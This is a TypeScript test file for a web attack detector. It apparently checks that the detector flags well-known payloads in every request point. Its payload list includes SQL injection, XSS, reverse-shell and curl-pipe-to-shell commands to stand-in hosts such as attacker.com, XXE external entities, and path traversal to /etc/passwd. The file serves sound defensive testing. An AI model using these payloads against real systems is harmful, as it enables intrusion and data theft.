import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import { RELAXED, tx, type TxSpec } from './helpers';

/**
 * Well-known payloads of every class, each sent in every request point it can travel in:
 * query, form, JSON, multipart, cookie, path segment, XML element and a custom header.
 * Payloads with `%0` escapes (CRLF) are sent as written, the rest percent-encoded as a client would.
 */
const PAYLOADS: Record<string, string[]> = {
  sqli: [
    "' OR 1=1--",
    "' OR '1'='1",
    "1' AND 1=2 UNION SELECT NULL,NULL--",
    "admin'--",
    "admin' #",
    '1 OR 1=1',
    '1; DROP TABLE users',
    "' UNION SELECT username, password FROM users--",
    "1' AND SLEEP(5)--",
    '1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)',
    "'; WAITFOR DELAY '0:0:5'--",
    "1' ORDER BY 3--",
    '-1 UNION ALL SELECT 1,2,3,@@version',
    "' AND extractvalue(1,concat(0x7e,version()))--",
    "1' AND '1'='1",
    '" OR ""="',
    "') OR ('1'='1",
    '1)) OR 1=1--',
    "' OR 'x'='x",
    '1 AND 1=1',
    "' HAVING 1=1--",
    "' GROUP BY columnnames HAVING 1=1--",
    "1' OR pg_sleep(5)--",
    '1;SELECT pg_sleep(5)',
    "' or 1=1 limit 1 -- -+",
    "1' and ascii(substring((select database()),1,1))>64--",
    "' OR EXISTS(SELECT * FROM users)--",
    "'||(SELECT version())||'",
    '1 rlike (select case when 1=1 then 1 else 0x28 end)',
  ],
  xss: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '"><script>alert(document.cookie)</script>',
    "'><img src=x onerror=alert(1)>",
    "<body onload=alert('XSS')>",
    '<iframe src="javascript:alert(1)"></iframe>',
    'javascript:alert(document.domain)',
    '<a href="javascript:alert(1)">x</a>',
    '" onfocus="alert(1)" autofocus="',
    "' onmouseover='alert(1)",
    '<details open ontoggle=alert(1)>',
    '<ScRiPt>alert(1)</sCrIpT>',
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    '<svg/onload=alert`1`>',
    '<input autofocus onfocus=alert(1)>',
    '</script><script>alert(1)</script>',
    "';alert(1);//",
    '";alert(1);//',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<video><source onerror=alert(1)>',
    '<embed src=javascript:alert(1)>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<div style="background:url(javascript:alert(1))">',
    '<x onclick=alert(1)>click',
  ],
  rce: [
    ';id',
    '| id',
    '|| id',
    '&& id',
    '& whoami',
    '; cat /etc/passwd',
    '| cat /etc/passwd',
    '`id`',
    '$(id)',
    '$(cat /etc/passwd)',
    '; ls -la',
    '127.0.0.1; whoami',
    '127.0.0.1 | cat /etc/passwd',
    '127.0.0.1 && uname -a',
    '; sleep 5',
    '| sleep 5',
    '; ping -c 3 127.0.0.1',
    '& ping -n 3 127.0.0.1',
    '| nslookup attacker.com',
    '; curl http://attacker.com/x.sh | sh',
    '; wget http://evil/x -O /tmp/x',
    '& dir',
    '| type C:\\Windows\\win.ini',
    '; nc -e /bin/sh 10.0.0.1 4444',
    "a;/bin/bash -c 'id'",
    '%0aid',
    '\nid',
    '() { :;}; /bin/bash -c "id"',
    '; echo $PATH',
    '$(sleep 5)',
    ';cat${IFS}/etc/passwd',
    '|powershell -c whoami',
    '${jndi:ldap://x.com/a}',
    "<?php system('id'); ?>",
    "system('id')",
  ],
  ptrav: [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '....//....//....//etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/etc/passwd',
    '/etc/shadow',
    '../../../../../../windows/system32/drivers/etc/hosts',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '..%252f..%252f..%252fetc%252fpasswd',
    '..%c0%af..%c0%afetc%c0%afpasswd',
    'file:///etc/passwd',
    'C:\\boot.ini',
    '/proc/self/environ',
    '../../../../WEB-INF/web.xml',
    '....\\\\....\\\\windows\\\\win.ini',
    '..;/..;/etc/passwd',
    '/var/www/../../etc/passwd',
    '../../../../../etc/passwd%00.jpg',
    'php://filter/convert.base64-encode/resource=index.php',
    'c:/windows/win.ini',
  ],
  ssrf: [
    'http://127.0.0.1/',
    'http://localhost:8080/admin',
    'http://169.254.169.254/latest/meta-data/',
    'http://metadata.google.internal/computeMetadata/v1/',
    'http://[::1]/',
    'http://0.0.0.0:22',
    'http://2130706433/',
    'http://0x7f000001/',
    'http://017700000001/',
    'http://127.1/',
    'gopher://127.0.0.1:6379/_FLUSHALL',
    'dict://127.0.0.1:11211/stat',
    'file:///etc/passwd',
    'http://10.0.0.1/internal',
    'http://192.168.1.1/',
    'http://172.16.0.1/',
    'http://[::ffff:127.0.0.1]/',
    'http://127.0.0.1.nip.io/',
    'https://169.254.169.254/metadata/instance?api-version=2021-02-01',
    'http://user@127.0.0.1/',
  ],
  ssti: [
    '{{7*7}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{{config}}',
    '{{config.items()}}',
    '{{self.__init__.__globals__}}',
    "{{''.__class__.__mro__[2].__subclasses__()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "#set($x='')$x.class.forName('java.lang.Runtime')",
    "{{7*'7'}}",
    '*{7*7}',
    '@(7*7)',
    "{% import os %}{{ os.system('id') }}",
    "{{ lipsum.__globals__.os.popen('id').read() }}",
  ],
  ldapi: [
    '*)(uid=*))(|(uid=*',
    'admin)(&)',
    '*)(|(password=*))',
    'admin*)((|userpassword=*)',
    '*)(objectClass=*',
    '(&(uid=admin)(!(&(1=0)(userPassword=q))))',
    '*(|(objectclass=*))',
    'admin)(!(&(1=0',
    'x)(|(cn=*))',
    '*))%00',
  ],
  nosqli: [
    '{"$gt": ""}',
    '{"$ne": null}',
    "'; return true; var a='",
    "' || '1'=='1",
    '{"$where": "sleep(5000)"}',
    "true, $where: '1 == 1'",
    '{"$regex": ".*"}',
    "'; while(true){}'",
    'db.users.find()',
    '[$ne]=1',
  ],
  xxe: [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.com/x.dtd"> %xxe;]>',
    '<!DOCTYPE foo SYSTEM "http://evil.com/x.dtd"><foo/>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x PUBLIC "-//X" "http://evil/x">]><r>&x;</r>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
  ],
  crlf: [
    '%0d%0aSet-Cookie:mycookie=myvalue',
    '%0d%0aLocation:%20http://evil.com',
    '\r\nSet-Cookie: a=b',
    '%0aX-Injected:%20yes',
    '%E5%98%8A%E5%98%8DSet-Cookie:test',
    '%0d%0a%0d%0a<script>alert(1)</script>',
    'foo%0d%0aContent-Length:%200',
  ],
  redir: [
    'https://shop.example@evil.com',
    '//evil.com',
    '/\\evil.com',
    'https:evil.com',
    'http://shop.example%2540evil.com/login',
    '\\\\evil.com',
    '//evil.com/%2f..',
    'https://shop.example.evil.com/',
  ],
  mail_injection: [
    'victim@x.com\r\nBcc: spam@evil.com',
    'a@b.c%0ACc:spam@evil.com',
    'test@x.com\nTo: other@evil.com',
    'x\r\nContent-Type: text/html',
    '\r\nRCPT TO: <a@evil.com>',
    'x\r\nDATA\r\n',
  ],
  ssi: [
    '<!--#exec cmd="id"-->',
    '<!--#include virtual="/etc/passwd"-->',
    '<!--#echo var="DOCUMENT_ROOT"-->',
    '<!--#exec cmd="ls" -->',
    '<!--#printenv -->',
  ],
};

/** Parameter names matter for some classes (redirect targets, mail fields). */
const NAME: Record<string, string> = { redir: 'next', ssrf: 'url', mail_injection: 'email', crlf: 'lang' };
const H: [string, string] = ['Host', 'shop.example'];

function specs(name: string, payload: string): Array<[string, TxSpec]> {
  const raw = payload.includes('%0');
  const q = raw ? payload : encodeURIComponent(payload);
  const text = raw ? decodeURIComponent(payload) : payload;
  const out: Array<[string, TxSpec]> = [
    ['query', { target: `/p?${name}=${q}` }],
    [
      'form',
      { method: 'POST', target: '/p', headers: [H, ['Content-Type', 'application/x-www-form-urlencoded']], body: `${name}=${q}` },
    ],
    [
      'json',
      {
        method: 'POST',
        target: '/p',
        headers: [H, ['Content-Type', 'application/json']],
        body: JSON.stringify({ data: { [name]: text } }),
      },
    ],
    [
      'multipart',
      {
        method: 'POST',
        target: '/p',
        headers: [H, ['Content-Type', 'multipart/form-data; boundary=B0']],
        body: `--B0\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n--B0--\r\n`,
      },
    ],
    ['path', { target: `/x/${q}/y` }],
  ];
  if (!/[\r\n;]/.test(text)) out.push(['cookie', { target: '/', headers: [H, ['Cookie', `${name}=${q}`]] }]);
  if (!/[\r\n]/.test(text)) out.push(['header', { target: '/', headers: [H, [`X-${name}`, text]] }]);
  out.push([
    'xml',
    {
      method: 'POST',
      target: '/p',
      headers: [H, ['Content-Type', 'application/xml']],
      body: `<r><${name}>${text.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</${name}></r>`,
    },
  ]);
  return out;
}

/** Where a class cannot travel: redirects are parameters; CR/LF classes need a single-line field. */
function applicable(cls: string, point: string, payload: string): boolean {
  if (cls === 'redir') return point === 'query' || point === 'form' || point === 'json' || point === 'multipart';
  // CR/LF reaches a header only from the query, path, headers and cookies (not form, JSON or multipart text).
  if (cls === 'crlf') return !['xml', 'form', 'json', 'multipart'].includes(point);
  if (cls === 'mail_injection') return point !== 'xml';
  if (cls === 'ldapi' && payload.endsWith('%00')) return false;
  return true;
}

for (const [cls, list] of Object.entries(PAYLOADS)) {
  test(`${cls}: ${list.length} well-known payloads in every request point`, () => {
    const detector = new AttackDetector(RELAXED);
    const missed: string[] = [];
    for (const payload of list) {
      for (const [point, spec] of specs(NAME[cls] ?? 'q', payload)) {
        if (!applicable(cls, point, payload)) continue;
        const hits = detector.detect(tx(spec))?.hits ?? [];
        if (!hits.some((h) => h.class === cls))
          missed.push(`${point}: ${JSON.stringify(payload)} -> ${hits.map((h) => h.class).join(',') || 'nothing'}`);
      }
    }
    assert.deepEqual(missed, []);
  });
}
